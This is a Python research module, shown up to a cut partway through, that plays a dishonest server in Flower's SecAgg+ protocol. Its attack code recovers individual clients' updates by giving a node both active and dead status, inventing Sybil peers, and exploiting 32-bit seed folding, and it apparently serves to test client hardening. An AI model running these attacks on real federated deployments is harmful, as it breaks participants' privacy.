"""A dishonest SecAgg+ server, hand-played against real Flower ClientApps.

Every function here plays the *server* side of Flower's SecAgg+ protocol at the
message level: it builds the same ``flwr.app.Message`` objects Flower's
``SecAggPlusWorkflow`` builds and hands them to a ClientApp by calling
``app(message, context)``. The server is dishonest: it is allowed to lie about
who is in the round, to invent peers, to ask for any share it likes and to use
any of Flower's own crypto helpers. The victims are untouched, real ClientApps.

The stock victim is ``ClientApp(client_fn=..., mods=[secaggplus_mod])`` whose
``NumPyClient.fit`` returns a known update, so a test can compare what the
server recovers with the truth. :class:`Victim` accepts any ClientApp callable,
so the same drivers can be pointed at a hardened client: there the attack is
expected to raise (the client refuses a message) or to recover garbage.

Attacks (each returns what the server learns about one institution):

``overlap_at_unmask``
    Honest round up to the masked vectors; at unmask the server lists the
    target as both *active* and *dead*. The clients return the target's
    self-mask seed share **and** its ``sk1`` share, which together unmask the
    target's own vector.
``fake_peers_sybil``
    One real client plus server-made "peers". The server holds the peers'
    secret keys, so it decrypts the target's shares of its self-mask seed and
    computes every pairwise mask itself. No unmask stage is needed.
``bruteforce_two_party_update``
    Flower folds every mask seed to 32 bits before seeding NumPy's MT19937
    (:func:`fold_seed`); the pairwise seed is base64 text, so 4 of those bits
    are always 0 (:func:`zero_bit_mask`). In an honest round of two, the server
    legitimately learns both self-mask seeds; it then brute-forces the 2**28
    pairwise seeds against coordinate 0 (the quantized weight, known from the
    clear-text ``num_examples``) and unmasks one client's update.
``differencing``
    Two honest rounds of the same vector, one with and one without the target;
    the difference of the aggregates is the target's vector. The second round
    may reuse the first round's ``group_id``: the stock client does not care.

Only Flower's own generator (``np.random.RandomState``, through
``pseudo_rand_gen`` or an exact vectorised re-implementation of its first
output) and the victims' seeded known updates use pseudo-randomness here.
"""

from __future__ import annotations

import math
import time
from collections.abc import Callable, Iterable, Mapping, Sequence
from dataclasses import dataclass, replace
from typing import Any, Literal, cast

import numpy as np
from flwr.app import ConfigRecord, Context, Message, RecordDict
from flwr.app.message_type import MessageType
from flwr.app.typing import ConfigRecordValues
from flwr.client import Client, NumPyClient
from flwr.client.mod import secaggplus_mod
from flwr.clientapp import ClientApp
from flwr.common import FitIns, NDArrays, Scalar, bytes_to_ndarray, ndarrays_to_parameters
from flwr.common.secure_aggregation.crypto.shamir import combine_shares
from flwr.common.secure_aggregation.crypto.symmetric_encryption import (
    decrypt,
    encrypt,
    generate_shared_key,
)
from flwr.common.secure_aggregation.ndarrays_arithmetic import (
    factor_extract,
    parameters_addition,
    parameters_mod,
    parameters_subtraction,
)
from flwr.common.secure_aggregation.quantization import dequantize
from flwr.common.secure_aggregation.secaggplus_constants import (
    RECORD_KEY_CONFIGS,
    RECORD_KEY_STATE,
    Key,
    Stage,
)
from flwr.common.secure_aggregation.secaggplus_utils import (
    pseudo_rand_gen,
    share_keys_plaintext_concat,
    share_keys_plaintext_separate,
)
from flwr.compat.common.recorddict_compat import fitins_to_recorddict, recorddict_to_fitres
from flwr.supercore.primitives.asymmetric import (
    bytes_to_private_key,
    bytes_to_public_key,
    generate_key_pairs,
    private_key_to_bytes,
    public_key_to_bytes,
)
from flwr.supercore.task_identity import TaskIdentity
from numpy.typing import NDArray

__all__ = [
    "BASE64_ZERO_MASK",
    "DEFAULT_NODE_IDS",
    "NAMES",
    "UPDATE_SHAPES",
    "CandidateCost",
    "FakePeer",
    "FoldEntropy",
    "HonestAggregate",
    "KnownUpdateClient",
    "RoundTranscript",
    "SecAggConfig",
    "ShareKind",
    "Victim",
    "base64_fold_model_entropy",
    "bruteforce_pairwise_mask",
    "bruteforce_two_party_update",
    "candidate_index",
    "candidate_seeds",
    "claim_server_task_identity",
    "combine_collected",
    "decode_individual",
    "differencing",
    "fake_peers_sybil",
    "flower_pairwise_mask",
    "flower_self_mask",
    "fold_entropy",
    "fold_seed",
    "honest_round",
    "honest_unmask",
    "known_histogram",
    "known_update",
    "looks_quantized",
    "make_fake_peer",
    "measure_candidate_cost",
    "mt19937_first_outputs",
    "overlap_at_unmask",
    "play_until_masked",
    "real_pairwise_keys",
    "run_collect",
    "run_setup",
    "run_share_keys",
    "run_unmask",
    "stock_client_app",
    "stock_victim",
    "stock_victims",
    "strip_masks",
    "victim_pairwise_seed_oracle",
    "zero_bit_mask",
]

FloatArrays = list[NDArray[np.float64]]
IntArrays = list[NDArray[np.int64]]
PublicKeys = dict[int, tuple[bytes, bytes]]
Shape = tuple[int, ...]
AppCallable = Callable[[Message, Context], Message]
ShareKind = Literal["rd_seed", "sk1"]

NAMES: tuple[str, ...] = ("bank-a", "bank-b", "insurer-c")
DEFAULT_NODE_IDS: dict[str, int] = {"bank-a": 1001, "bank-b": 2002, "insurer-c": 3003}
# Seeds for the victims' *known* updates (the only other use of NumPy randomness).
_UPDATE_SEEDS: dict[str, int] = {"bank-a": 11, "bank-b": 22, "insurer-c": 33}
# A small "model": 800 + 40 + 160 + 4 = 1004 parameters.
UPDATE_SHAPES: tuple[Shape, ...] = ((20, 40), (40,), (40, 4), (4,))

# Bits of Flower's 32-bit folded seed that are 0 for every base64 key: the top
# bit of each of the four byte lanes (base64 text is 7-bit ASCII). Derived,
# not assumed, by ``zero_bit_mask`` in the tests.
BASE64_ZERO_MASK = 0x80808080

_MT_MULT = np.uint32(1812433253)


# ---------------------------------------------------------------------------
# Protocol parameters
# ---------------------------------------------------------------------------


@dataclass(frozen=True)
class SecAggConfig:
    """The SecAgg+ parameters a server sends in the setup stage.

    Defaults are the product's (``pyproject.toml``: 3 shares, threshold 2,
    clipping 8.0, quantization 2**24, modulus 2**32, max weight 100000.0).

    Parameters
    ----------
    sample_num : int
        Number of clients the server *claims* are in the round.
    share_num, threshold : int
        Shamir parameters each client uses for its secrets.
    clipping_range : float
        Updates are clipped to ``[-clipping_range, clipping_range]``.
    target_range : int
        Quantization range.
    mod_range : int
        Modulus of the masked integer vectors.
    max_weight : float
        Divides ``num_examples`` to form the client's weight ratio.
    """

    sample_num: int = 3
    share_num: int = 3
    threshold: int = 2
    clipping_range: float = 8.0
    target_range: int = 2**24
    mod_range: int = 2**32
    max_weight: float = 100000.0

    def setup_record(self) -> dict[str, ConfigRecordValues]:
        """Return the setup-stage config exactly as ``SecAggPlusWorkflow`` builds it."""
        return {
            Key.STAGE: Stage.SETUP,
            Key.SAMPLE_NUMBER: self.sample_num,
            Key.SHARE_NUMBER: self.share_num,
            Key.THRESHOLD: self.threshold,
            Key.CLIPPING_RANGE: self.clipping_range,
            Key.TARGET_RANGE: self.target_range,
            Key.MOD_RANGE: self.mod_range,
            Key.MAX_WEIGHT: self.max_weight,
        }

    def q_ratio(self, num_examples: int) -> int:
        """Quantized weight factor a client puts in coordinate 0 of its vector.

        ``num_examples`` travels in clear beside the masked vector, so the
        server knows this value for every client (same formula as the mod).
        """
        return round(num_examples / self.max_weight * self.target_range)


# ---------------------------------------------------------------------------
# Victims: real ClientApps with a known update
# ---------------------------------------------------------------------------


def known_update(name: str, shapes: Sequence[Shape] = UPDATE_SHAPES) -> list[NDArray[np.float32]]:
    """Deterministic float32 update in ``[-1, 1]`` for institution ``name``.

    Parameters
    ----------
    name : str
        One of :data:`NAMES` (each has its own seed, so updates differ).
    shapes : sequence of tuple of int
        Array shapes of the update.

    Returns
    -------
    list of numpy.ndarray
        The update the victim's ``fit`` will return.
    """
    rng = np.random.default_rng(_UPDATE_SEEDS[name])
    return [rng.uniform(-1.0, 1.0, size=shape).astype(np.float32) for shape in shapes]


def known_histogram(name: str, bins: int = 20) -> list[NDArray[np.float32]]:
    """Deterministic normalised histogram (an "evaluation" vector) for ``name``.

    Returns
    -------
    list of numpy.ndarray
        One float32 array of ``bins`` non-negative values summing to 1.
    """
    rng = np.random.default_rng(1000 + _UPDATE_SEEDS[name])
    counts = rng.integers(1, 500, size=bins).astype(np.float64)
    return [(counts / counts.sum()).astype(np.float32)]


class KnownUpdateClient(NumPyClient):
    """A ``NumPyClient`` whose ``fit`` ignores its input and returns a fixed update.

    Parameters
    ----------
    update : list of numpy.ndarray
        What ``fit`` returns (copied on every call).
    num_examples : int
        The weight ``fit`` reports.
    """

    def __init__(self, update: Sequence[NDArray[Any]], num_examples: int) -> None:
        self._update = [np.array(a, copy=True) for a in update]
        self._num_examples = num_examples

    def fit(
        self, parameters: NDArrays, config: dict[str, Scalar]
    ) -> tuple[NDArrays, int, dict[str, Scalar]]:
        """Return the known update and weight."""
        return [a.copy() for a in self._update], self._num_examples, {}


def stock_client_app(update: Sequence[NDArray[Any]], num_examples: int) -> ClientApp:
    """Stock Flower ClientApp: a ``KnownUpdateClient`` behind ``secaggplus_mod``.

    Returns
    -------
    flwr.clientapp.ClientApp
        ``ClientApp(client_fn=..., mods=[secaggplus_mod])``, nothing else.
    """

    def client_fn(context: Context) -> Client:
        return KnownUpdateClient(update, num_examples).to_client()

    return ClientApp(client_fn=client_fn, mods=[secaggplus_mod])


@dataclass
class Victim:
    """One institution as the server sees it, plus the truth for the test.

    Parameters
    ----------
    name : str
        Institution name.
    node_id : int
        Flower node ID (the mod uses it to order pairwise masks).
    app : callable
        Any ClientApp (``app(message, context) -> Message``).
    context : flwr.app.Context
        The node's context, reused across stages and rounds so the mod keeps
        its protocol state in ``context.state`` just as a SuperNode would.
    update : list of numpy.ndarray
        Ground truth the victim's ``fit`` returns (never read by attacks).
    num_examples : int
        Ground-truth weight (attacks read it only from the reply's metrics).
    """

    name: str
    node_id: int
    app: AppCallable
    context: Context
    update: list[NDArray[Any]]
    num_examples: int

    def ask(
        self,
        stage_config: Mapping[str, ConfigRecordValues],
        group_id: str,
        fit_ins: FitIns | None = None,
    ) -> RecordDict:
        """Send one TRAIN message and return the reply's content.

        Parameters
        ----------
        stage_config : mapping
            Content of the ``RECORD_KEY_CONFIGS`` config record (incl. stage).
        group_id : str
            The round, as ``str(server_round)`` in Flower's workflow.
        fit_ins : flwr.common.FitIns, optional
            For the collect-masked-vectors stage: the FitIns recorddict the
            config record is added to (as ``SecAggPlusWorkflow`` does).

        Returns
        -------
        flwr.app.RecordDict
            The reply content.

        Raises
        ------
        Exception
            Whatever the ClientApp raises when it refuses the message, or
            ``RuntimeError`` if it replies with an error.
        """
        claim_server_task_identity()
        if fit_ins is None:
            content = RecordDict()
        else:
            content = fitins_to_recorddict(fit_ins, keep_input=True)
        content.config_records[RECORD_KEY_CONFIGS] = ConfigRecord(dict(stage_config))
        message = Message(
            content=content,
            dst_node_id=self.node_id,
            message_type=MessageType.TRAIN,
            group_id=group_id,
        )
        reply = self.app(message, self.context)
        if reply.has_error():
            raise RuntimeError(f"{self.name} replied with an error: {reply.error}")
        return reply.content


def claim_server_task_identity() -> None:
    """Set Flower's process-wide task identity, as the server runtime would.

    Flower 1.42 refuses to build messages until ``TaskIdentity`` is set; the
    dishonest server plays the runtime, so it sets it itself.
    """
    TaskIdentity.task_id = 1
    TaskIdentity.run_id = 1
    TaskIdentity.node_id = 0


def _fresh_context(node_id: int) -> Context:
    return Context(run_id=1, node_id=node_id, node_config={}, state=RecordDict(), run_config={})


def stock_victim(
    name: str,
    *,
    node_id: int | None = None,
    update: Sequence[NDArray[Any]] | None = None,
    num_examples: int = 5000,
) -> Victim:
    """Build one stock-Flower victim with a known update.

    Parameters
    ----------
    name : str
        Institution name (chooses the default update and node ID).
    node_id : int, optional
        Defaults to :data:`DEFAULT_NODE_IDS` ``[name]``.
    update : list of numpy.ndarray, optional
        Defaults to :func:`known_update` ``(name)``.
    num_examples : int
        Weight the client reports.

    Returns
    -------
    Victim
        With a fresh context.
    """
    nid = DEFAULT_NODE_IDS[name] if node_id is None else node_id
    arrays = known_update(name) if update is None else [np.array(a, copy=True) for a in update]
    return Victim(
        name=name,
        node_id=nid,
        app=stock_client_app(arrays, num_examples),
        context=_fresh_context(nid),
        update=arrays,
        num_examples=num_examples,
    )


def stock_victims(names: Sequence[str] = NAMES, num_examples: int = 5000) -> list[Victim]:
    """Stock victims for ``names`` (distinct known updates, same weight)."""
    return [stock_victim(name, num_examples=num_examples) for name in names]


# ---------------------------------------------------------------------------
# The four stages, server side (one message per victim per stage)
# ---------------------------------------------------------------------------


def run_setup(victims: Sequence[Victim], cfg: SecAggConfig, group_id: str) -> PublicKeys:
    """Setup stage: send the config, collect every victim's ``(pk1, pk2)``.

    Returns
    -------
    dict
        ``node_id -> (pk1, pk2)`` (PEM bytes).
    """
    keys: PublicKeys = {}
    for victim in victims:
        res = victim.ask(cfg.setup_record(), group_id).config_records[RECORD_KEY_CONFIGS]
        keys[victim.node_id] = (cast(bytes, res[Key.PUBLIC_KEY_1]), cast(bytes, res[Key.PUBLIC_KEY_2]))
    return keys


def run_share_keys(
    victims: Sequence[Victim], views: Mapping[int, Mapping[int, tuple[bytes, bytes]]], group_id: str
) -> dict[int, dict[int, bytes]]:
    """Share-keys stage: relay a (server-chosen) key view to each victim.

    Parameters
    ----------
    views : mapping
        ``victim node_id -> {node_id: (pk1, pk2)}``: the "neighbours" the
        server tells that victim about. Nothing binds this to real nodes.

    Returns
    -------
    dict
        ``src -> {dst: ciphertext}``: the encrypted shares each victim uploads.
    """
    outboxes: dict[int, dict[int, bytes]] = {}
    for victim in victims:
        record: dict[str, ConfigRecordValues] = {
            str(nid): [pk1, pk2] for nid, (pk1, pk2) in views[victim.node_id].items()
        }
        record[Key.STAGE] = Stage.SHARE_KEYS
        res = victim.ask(record, group_id).config_records[RECORD_KEY_CONFIGS]
        dsts = cast(list[int], res[Key.DESTINATION_LIST])
        ctxts = cast(list[bytes], res[Key.CIPHERTEXT_LIST])
        outboxes[victim.node_id] = dict(zip(dsts, ctxts, strict=True))
    return outboxes


def _route(outboxes: Mapping[int, Mapping[int, bytes]]) -> dict[int, dict[int, bytes]]:
    """Turn ``src -> {dst: ct}`` into the forwarding ``dst -> {src: ct}``."""
    inbox: dict[int, dict[int, bytes]] = {}
    for src, box in outboxes.items():
        for dst, ciphertext in box.items():
            inbox.setdefault(dst, {})[src] = ciphertext
    return inbox


def run_collect(
    victims: Sequence[Victim],
    inbox: Mapping[int, Mapping[int, bytes]],
    group_id: str,
    global_model: NDArrays | None = None,
    fit_config: dict[str, Scalar] | None = None,
) -> tuple[dict[int, IntArrays], dict[int, int]]:
    """Collect-masked-vectors stage: forward ciphertexts with FitIns, collect vectors.

    Parameters
    ----------
    inbox : mapping
        ``dst -> {src: ciphertext}`` forwarded to each victim.
    global_model : list of numpy.ndarray, optional
        Parameters in the FitIns (stock victims ignore them).
    fit_config : dict, optional
        FitIns config.

    Returns
    -------
    masked : dict
        ``node_id -> masked integer vector`` (coordinate 0 is the weight factor).
    num_examples : dict
        ``node_id -> num_examples`` as sent **in clear** in the reply metrics.
    """
    masked: dict[int, IntArrays] = {}
    weights: dict[int, int] = {}
    for victim in victims:
        box = inbox.get(victim.node_id, {})
        record: dict[str, ConfigRecordValues] = {
            Key.STAGE: Stage.COLLECT_MASKED_VECTORS,
            Key.CIPHERTEXT_LIST: list(box.values()),
            Key.SOURCE_LIST: list(box.keys()),
        }
        fit_ins = FitIns(ndarrays_to_parameters(list(global_model or [])), dict(fit_config or {}))
        content = victim.ask(record, group_id, fit_ins)
        res = content.config_records[RECORD_KEY_CONFIGS]
        masked[victim.node_id] = [
            bytes_to_ndarray(b).astype(np.int64) for b in cast(list[bytes], res[Key.MASKED_PARAMETERS])
        ]
        # The weight is not masked: FitRes.num_examples goes back as a metric.
        weights[victim.node_id] = recorddict_to_fitres(content, keep_input=True).num_examples
    return masked, weights


def run_unmask(
    victims: Sequence[Victim],
    active: Sequence[int],
    dead: Sequence[int],
    group_id: str,
) -> dict[int, list[tuple[int, ShareKind, bytes]]]:
    """Unmask stage: send (possibly overlapping) active/dead lists, collect shares.

    The stock mod answers with its ``rd_seed`` share for every ``active`` ID
    and its ``sk1`` share for every ``dead`` ID, in that order; it does not
    check that the two lists are disjoint.

    Returns
    -------
    dict
        ``responder -> [(owner node_id, "rd_seed" | "sk1", share), ...]``.
    """
    replies: dict[int, list[tuple[int, ShareKind, bytes]]] = {}
    for victim in victims:
        record: dict[str, ConfigRecordValues] = {
            Key.STAGE: Stage.UNMASK,
            Key.ACTIVE_NODE_ID_LIST: list(active),
            Key.DEAD_NODE_ID_LIST: list(dead),
        }
        res = victim.ask(record, group_id).config_records[RECORD_KEY_CONFIGS]
        nids = cast(list[int], res[Key.NODE_ID_LIST])
        shares = cast(list[bytes], res[Key.SHARE_LIST])
        # Position tells the kind: the mod returns active shares, then dead ones.
        replies[victim.node_id] = [
            (nid, "rd_seed" if pos < len(active) else "sk1", share)
            for pos, (nid, share) in enumerate(zip(nids, shares, strict=True))
        ]
    return replies


def combine_collected(
    replies: Mapping[int, Sequence[tuple[int, ShareKind, bytes]]], owner: int, kind: ShareKind
) -> bytes:
    """Rebuild ``owner``'s secret of ``kind`` from the collected unmask shares.

    Raises
    ------
    ValueError
        If no share of that kind was collected (or Shamir fails).
    """
    shares = [s for reply in replies.values() for nid, k, s in reply if nid == owner and k == kind]
    if not shares:
        raise ValueError(f"no {kind} share of node {owner} was collected")
    return combine_shares(shares)


# ---------------------------------------------------------------------------
# Mask arithmetic (Flower's helpers, used by a server that knows the seeds)
# ---------------------------------------------------------------------------


def flower_self_mask(rd_seed: bytes, shapes: Sequence[Shape], mod_range: int) -> IntArrays:
    """The self mask a client derives from its ``rd_seed`` (Flower's PRG)."""
    return pseudo_rand_gen(rd_seed, mod_range, list(shapes))


def flower_pairwise_mask(
    sk1: bytes, peer_pk1: bytes, shapes: Sequence[Shape], mod_range: int
) -> IntArrays:
    """The pairwise mask between the holder of ``sk1`` and the owner of ``peer_pk1``."""
    seed = generate_shared_key(bytes_to_private_key(sk1), bytes_to_public_key(peer_pk1))
    return pseudo_rand_gen(seed, mod_range, list(shapes))


def strip_masks(
    masked: IntArrays,
    owner: int,
    self_mask: IntArrays | None,
    pairwise: Mapping[int, IntArrays],
    mod_range: int,
) -> IntArrays:
    """Remove masks from **one** client's masked vector.

    Parameters
    ----------
    masked : list of numpy.ndarray
        ``owner``'s masked vector.
    owner : int
        Its node ID. The mod *adds* the pairwise mask with peer ``j`` when
        ``owner > j`` and subtracts it otherwise, so we undo accordingly.
    self_mask : list of numpy.ndarray or None
        Mask from ``owner``'s ``rd_seed`` (None: already removed).
    pairwise : mapping
        ``peer node_id -> pairwise mask``.
    mod_range : int
        Modulus.

    Returns
    -------
    list of numpy.ndarray
        The quantized vector, in ``[0, mod_range)``.
    """
    vector = [a.astype(np.int64) for a in masked]
    if self_mask is not None:
        vector = parameters_subtraction(vector, self_mask)
    for peer, mask in pairwise.items():
        if owner > peer:
            vector = parameters_subtraction(vector, mask)
        else:
            vector = parameters_addition(vector, mask)
    return parameters_mod(vector, mod_range)


def looks_quantized(vector: IntArrays, cfg: SecAggConfig) -> bool:
    """True if every coordinate after the weight lies in ``[0, target_range]``.

    A correctly unmasked vector always does; a wrongly unmasked one has
    coordinates uniform over ``[0, mod_range)``, so with ~1000 coordinates a
    false positive has probability about ``(target/mod) ** 1000``.
    """
    _, body = factor_extract(vector)
    return all(bool(np.all((a >= 0) & (a <= cfg.target_range))) for a in body)


def decode_individual(vector: IntArrays, cfg: SecAggConfig) -> FloatArrays:
    """Turn one client's unmasked quantized vector back into its float update.

    Mirrors the last lines of ``SecAggPlusWorkflow.unmask_stage`` for a single
    client (offset ``-(1 - 1) * clipping_range = 0``): dequantize, then divide
    by the client's own weight ratio ``q_ratio / target_range``.
    """
    q_ratio, body = factor_extract(vector)
    if int(q_ratio) <= 0:
        raise ValueError("weight factor is not positive: vector not unmasked")
    floats = dequantize(body, cfg.clipping_range, cfg.target_range)
    scale = cfg.target_range / int(q_ratio)
    return [np.asarray(a, dtype=np.float64) * scale for a in floats]


# ---------------------------------------------------------------------------
# Honest rounds (the server's legitimate view)
# ---------------------------------------------------------------------------


@dataclass
class RoundTranscript:
    """Everything the server has seen up to (and including) the masked vectors.

    Attributes
    ----------
    cfg : SecAggConfig
        Parameters sent at setup.
    group_id : str
        Group ID used for the round's messages.
    public_keys : dict
        ``node_id -> (pk1, pk2)`` from setup.
    key_views : dict
        ``node_id -> {peer: (pk1, pk2)}`` relayed at share-keys.
    ciphertexts : dict
        ``src -> {dst: ciphertext}`` uploaded at share-keys.
    masked : dict
        ``node_id -> masked vector``.
    num_examples : dict
        ``node_id -> num_examples`` (clear text).
    """

    cfg: SecAggConfig
    group_id: str
    public_keys: PublicKeys
    key_views: dict[int, PublicKeys]
    ciphertexts: dict[int, dict[int, bytes]]
    masked: dict[int, IntArrays]
    num_examples: dict[int, int]

    def shapes(self) -> list[Shape]:
        """Shapes of the masked vectors (weight factor first)."""
        first = next(iter(self.masked.values()))
        return [a.shape for a in first]

    def q_ratio(self, node_id: int) -> int:
        """Coordinate 0 of ``node_id``'s quantized vector, known from its clear weight."""
        return self.cfg.q_ratio(self.num_examples[node_id])


@dataclass
class HonestAggregate:
    """Result of an honest unmask stage.

    Attributes
    ----------
    aggregate : list of numpy.ndarray
        The weighted mean Flower's workflow passes to the strategy.
    rd_seeds : dict
        ``node_id -> rd_seed``: every self-mask seed, which the honest
        protocol hands to the server for all surviving clients.
    """

    aggregate: FloatArrays
    rd_seeds: dict[int, bytes]


def play_until_masked(
    victims: Sequence[Victim],
    cfg: SecAggConfig,
    group_id: str = "1",
    global_model: NDArrays | None = None,
    fit_config: dict[str, Scalar] | None = None,
) -> RoundTranscript:
    """Play setup, share-keys and collect-masked-vectors honestly (full graph).

    Returns
    -------
    RoundTranscript
        The server's view after collecting every masked vector.
    """
    public_keys = run_setup(victims, cfg, group_id)
    views = {v.node_id: dict(public_keys) for v in victims}
    outboxes = run_share_keys(victims, views, group_id)
    masked, weights = run_collect(victims, _route(outboxes), group_id, global_model, fit_config)
    return RoundTranscript(cfg, group_id, public_keys, views, outboxes, masked, weights)


def honest_unmask(victims: Sequence[Victim], transcript: RoundTranscript) -> HonestAggregate:
    """Honest unmask with no dropouts, then Flower's aggregation arithmetic.

    Returns
    -------
    HonestAggregate
        The weighted-mean aggregate and the self-mask seeds the server
        legitimately reconstructed.
    """
    cfg = transcript.cfg
    ids = [v.node_id for v in victims]
    replies = run_unmask(victims, active=ids, dead=[], group_id=transcript.group_id)
    rd_seeds = {nid: combine_collected(replies, nid, "rd_seed") for nid in ids}
    shapes = transcript.shapes()
    total: IntArrays = [np.zeros(s, dtype=np.int64) for s in shapes]
    for nid in ids:
        total = parameters_addition(total, transcript.masked[nid])
        total = parameters_subtraction(total, flower_self_mask(rd_seeds[nid], shapes, cfg.mod_range))
    # Pairwise masks cancel in the sum; what is left is the sum of quantized vectors.
    total = parameters_mod(total, cfg.mod_range)
    q_total, body = factor_extract(total)
    aggregate = dequantize(body, cfg.clipping_range, cfg.target_range)
    offset = -(len(ids) - 1) * cfg.clipping_range
    scale = cfg.target_range / int(q_total)
    return HonestAggregate([(a + offset) * scale for a in aggregate], rd_seeds)


def honest_round(
    victims: Sequence[Victim], cfg: SecAggConfig, group_id: str = "1"
) -> tuple[RoundTranscript, HonestAggregate]:
    """A complete honest SecAgg+ round with ``victims`` (no dropouts)."""
    transcript = play_until_masked(victims, cfg, group_id)
    return transcript, honest_unmask(victims, transcript)


# ---------------------------------------------------------------------------
# Attack 1: the same node both active and dead at unmask
# ---------------------------------------------------------------------------


def overlap_at_unmask(
    victims: Sequence[Victim],
    target: int,
    cfg: SecAggConfig | None = None,
    group_id: str = "1",
    *,
    ask_target: bool = False,
) -> FloatArrays:
    """Recover ``target``'s individual update by listing it both active and dead.

    The round is honest until the masked vectors are in. At unmask the server
    sends ``active = all``, ``dead = [target]``. The stock mod checks only
    ``len(active) >= threshold``, so each responder returns its share of
    ``target``'s self-mask seed *and* of ``target``'s ``sk1``. With
    ``threshold`` of each, the server rebuilds both secrets, removes the self
    mask and every pairwise mask from ``target``'s **own** masked vector and
    decodes it.

    Parameters
    ----------
    victims : sequence of Victim
        The cohort (stock: 3 institutions, threshold 2).
    target : int
        Node ID whose update the server wants.
    cfg : SecAggConfig, optional
        Defaults to the product's parameters with ``sample_num=len(victims)``.
    group_id : str
        Round.
    ask_target : bool
        Also send the unmask request to ``target`` itself (not needed: the
        other cohort members hold enough shares).

    Returns
    -------
    list of numpy.ndarray
        ``target``'s update (float64), within quantization error.
    """
    cfg = cfg or SecAggConfig(sample_num=len(victims))
    transcript = play_until_masked(victims, cfg, group_id)
    ids = [v.node_id for v in victims]
    responders = [v for v in victims if ask_target or v.node_id != target]
    replies = run_unmask(responders, active=ids, dead=[target], group_id=group_id)
    rd_seed = combine_collected(replies, target, "rd_seed")
    sk1 = combine_collected(replies, target, "sk1")

    shapes = transcript.shapes()
    peers = [nid for nid in transcript.key_views[target] if nid != target]
    pairwise = {
        peer: flower_pairwise_mask(sk1, transcript.public_keys[peer][0], shapes, cfg.mod_range)
        for peer in peers
    }
    unmasked = strip_masks(
        transcript.masked[target],
        target,
        flower_self_mask(rd_seed, shapes, cfg.mod_range),
        pairwise,
        cfg.mod_range,
    )
    return decode_individual(unmasked, cfg)


# ---------------------------------------------------------------------------
# Attack 2: server-made peers (Sybils)
# ---------------------------------------------------------------------------


@dataclass(frozen=True)
class FakePeer:
    """A node the server invents; it holds both secret keys.

    Attributes
    ----------
    node_id : int
        The ID the server claims for it.
    sk1, pk1 : bytes
        Masking key pair (PEM).
    sk2, pk2 : bytes
        Share-encryption key pair (PEM).
    """

    node_id: int
    sk1: bytes
    pk1: bytes
    sk2: bytes
    pk2: bytes


def make_fake_peer(node_id: int) -> FakePeer:
    """Generate a fake peer with Flower's own key generation."""
    sk1, pk1 = generate_key_pairs()
    sk2, pk2 = generate_key_pairs()
    return FakePeer(
        node_id,
        private_key_to_bytes(sk1),
        public_key_to_bytes(pk1),
        private_key_to_bytes(sk2),
        public_key_to_bytes(pk2),
    )


def fake_peers_sybil(
    victim: Victim,
    cfg: SecAggConfig | None = None,
    group_id: str = "1",
    *,
    fake_ids: Sequence[int] = (9001, 9002),
) -> FloatArrays:
    """Recover a lone victim's update by surrounding it with server-made peers.

    The server claims ``sample_num = 1 + len(fake_ids)`` at setup, relays
    the victim's own keys plus the fakes' keys at share-keys, and decrypts
    the shares the victim encrypts "for" the fakes (the server holds their
    ``sk2``). ``threshold`` of them rebuild the victim's self-mask seed. At
    collect it sends ciphertexts "from" the fakes, so the victim adds pairwise
    masks with them, which the server computes from the fakes' ``sk1``. No
    unmask stage is played.

    Parameters
    ----------
    victim : Victim
        The only real client.
    cfg : SecAggConfig, optional
        Defaults to the product's parameters (3 claimed clients, threshold 2).
    group_id : str
        Round.
    fake_ids : sequence of int
        IDs for the invented peers (at least ``threshold`` of them).

    Returns
    -------
    list of numpy.ndarray
        The victim's update (float64), within quantization error.
    """
    cfg = cfg or SecAggConfig(sample_num=1 + len(fake_ids))
    fakes = [make_fake_peer(nid) for nid in fake_ids]
    vid = victim.node_id

    pk1_v, pk2_v = run_setup([victim], cfg, group_id)[vid]
    view: PublicKeys = {vid: (pk1_v, pk2_v)}
    view.update({f.node_id: (f.pk1, f.pk2) for f in fakes})
    outbox = run_share_keys([victim], {vid: view}, group_id)[vid]

    # The fakes "receive" their shares: the server decrypts them with their sk2.
    rd_seed_shares: list[bytes] = []
    channel: dict[int, bytes] = {}
    for fake in fakes:
        key = generate_shared_key(bytes_to_private_key(fake.sk2), bytes_to_public_key(pk2_v))
        channel[fake.node_id] = key
        _, _, rd_share, _sk1_share = share_keys_plaintext_separate(decrypt(key, outbox[fake.node_id]))
        rd_seed_shares.append(rd_share)
    rd_seed = combine_shares(rd_seed_shares)

    # Forward "their" shares so the victim thinks the fakes are alive and
    # masks against them. The share contents are never checked at this stage.
    junk = b"\x00" * 36
    inbox = {
        vid: {
            fake.node_id: encrypt(channel[fake.node_id], share_keys_plaintext_concat(fake.node_id, vid, junk, junk))
            for fake in fakes
        }
    }
    masked, _ = run_collect([victim], inbox, group_id)
    shapes = [a.shape for a in masked[vid]]
    pairwise = {
        fake.node_id: flower_pairwise_mask(fake.sk1, pk1_v, shapes, cfg.mod_range) for fake in fakes
    }
    unmasked = strip_masks(
        masked[vid], vid, flower_self_mask(rd_seed, shapes, cfg.mod_range), pairwise, cfg.mod_range
    )
    return decode_individual(unmasked, cfg)


# ---------------------------------------------------------------------------
# Attack 3: the 32-bit fold of the mask seed
# ---------------------------------------------------------------------------


def fold_seed(seed: bytes) -> int:
    """Flower's seed fold: XOR of the seed's little-endian 4-byte words.

    ``pseudo_rand_gen`` (``flwr.common.secure_aggregation.secaggplus_utils``)
    asserts ``len(seed) % 4 == 0``, folds the seed this way to one 32-bit int
    and uses it as ``np.random.RandomState(seed32)``. So every mask, self or
    pairwise, has at most 32 bits of seed however long the key is.

    Parameters
    ----------
    seed : bytes
        Length a multiple of 4 (the pairwise key is 44 bytes of base64).

    Returns
    -------
    int
        The 32-bit seed NumPy's MT19937 is initialised with.
    """
    if len(seed) % 4:
        raise ValueError("Flower requires a seed length that is a multiple of 4")
    folded = 0
    for i in range(0, len(seed), 4):
        folded ^= int.from_bytes(seed[i : i + 4], "little")
    return folded


def zero_bit_mask(keys: Iterable[bytes]) -> int:
    """Bits of the folded seed that are 0 for every key in ``keys``.

    For the pairwise keys (``generate_shared_key`` returns
    ``base64.urlsafe_b64encode(HKDF(...))``, i.e. 7-bit ASCII text) this is
    ``0x80808080``: the top bit of every byte is 0 before the XOR, so also
    after it.

    Returns
    -------
    int
        Mask of the always-zero bits (0 if the keys cover all 32 bits).
    """
    seen = 0
    for key in keys:
        seen |= fold_seed(key)
    return ~seen & 0xFFFFFFFF


def real_pairwise_keys(n_parties: int) -> list[bytes]:
    """All ``n(n-1)/2`` pairwise keys among ``n_parties`` fresh Flower key pairs.

    Uses only Flower's ``generate_key_pairs`` and ``generate_shared_key``
